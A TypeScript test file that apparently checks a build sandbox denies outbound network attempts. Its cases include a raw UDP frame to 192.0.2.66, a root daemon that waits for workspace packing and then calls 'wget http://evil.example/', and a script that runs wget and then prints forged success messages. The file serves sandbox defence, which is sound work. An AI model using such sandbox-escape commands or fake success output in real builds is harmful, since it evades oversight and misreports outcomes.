/**
 * When and by whom an attempt is made does not matter: what the worker does
 * until it is destroyed counts.
 *
 * @module
 */

import { denies } from "./denial.ts";
import { frameSender, sendFrames } from "./frame_sender.ts";
import { etherTypes, frame, ipProtocols, ipv4, udp } from "./frames.ts";
import { startAsRoot } from "./root_commands.ts";

const attempt = {
  protocol: "dns",
  refusal: "name-not-allowed",
  host: "evil.example",
} as const;

denies({
  name: "an attempt in the last instant of the build",
  files: {
    send_frame: frameSender,
    datagram: frame({
      type: etherTypes.ipv4,
      payload: ipv4({
        to: [192, 0, 2, 66],
        protocol: ipProtocols.udp,
        payload: udp(40_000, 9, [0x68, 0x69]),
      }),
    }),
  },
  script: sendFrames("datagram"),
  attempt: { protocol: "udp", address: "192.0.2.66", port: 9 },
});

denies({
  name: "an attempt by a daemon while the workspace is packed",
  files: {
    "wait.sh": `
until grep -qs hard-dereference /run/contractor-runner/script; do :; done
wget -O /dev/null http://evil.example/`,
  },
  // Hard links are packed slowly: each becomes a file of its own.
  script: `
touch file
for number in $(seq 200); do ln file link$number; done
${startAsRoot("wait.sh")}`,
  attempt: { ...attempt, phase: "workspace-out" },
});

denies({
  name: "an attempt with success claimed loudly",
  script: `
wget -q -O /dev/null http://evil.example/ || true
echo '{"type":"end","outcome":"success","exitCode":0}'
echo 'Build succeeded'
printf 'exit 0\\n'
sleep 30`,
  attempt,
});
